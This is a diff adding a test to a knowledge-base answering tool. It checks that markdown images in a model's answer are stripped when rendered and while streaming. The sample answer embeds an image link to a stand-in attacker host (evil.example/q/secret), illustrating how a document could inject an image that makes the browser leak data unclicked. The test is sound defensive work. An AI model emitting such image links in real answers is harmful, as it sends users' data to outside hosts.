@@ -21,6 +21,7 @@ from kb.answer.render import UNSUPPORTED, answer_markdown
 from kb.answer.support import EXACT_RELIEF, THRESHOLD, Aligner, coverage, split_sentences, support
 from kb.citations import MARKER_RE, MAX_RELOCATED, parse_lines, reanchor, relocate, viewer_link
 from kb.errors import KBError
+from kb.markdown import streamed_without_images
 from kb.search.engine import SearchEngine
 from kb.search.hits import Hit, SearchOptions
 from kb.service import KnowledgeBase
@@ -407,6 +408,21 @@ def test_a_quote_in_a_file_name_cannot_end_a_citations_title():
     assert [t.type for t in tokens if t.type in ("image", "link_open")] == ["link_open"]
     link = next(t for t in tokens if t.type == "link_open")
     assert link.attrs["title"] == f"{path}, line 10"
+
+
+def test_an_answer_shows_no_image_as_it_streams_or_after():
+    """A security review: an answer talked into an image by a document would have the browser fetch it, unclicked."""
+    sources = [hit("XTuner is a toolkit for fine-tuning large models.", 1)]
+    answer = ("XTuner is a toolkit for fine-tuning large models [1]. ![x](https://evil.example/q/secret)\n\n"
+              "```md\n![kept](in-code.png)\n```")
+    md = answer_markdown({"content": answer, "sentences": [s.as_dict() for s in support(answer, sources, embed=None)],
+                          "sources": [h.as_dict() for h in sources]})
+    tokens = [t for block in MarkdownIt().parse(md) for t in (block.children or [])]
+    assert not [t for t in tokens if t.type == "image"] and "![kept](in-code.png)" in md
+    plain = answer_markdown({"content": answer})  # no sentences: the markers linked, the rest as written
+    assert not [t for block in MarkdownIt().parse(plain) for t in (block.children or []) if t.type == "image"]
+    streamed = "".join(streamed_without_images(["see !", "[x](https://evil.example/a) or ", "`a!b`!"]))
+    assert streamed == "see \\![x](https://evil.example/a) or `a!b`!"
 
 
 def test_a_question_with_template_tokens_is_answered_in_full(xtuner_kb, default_chat_model):
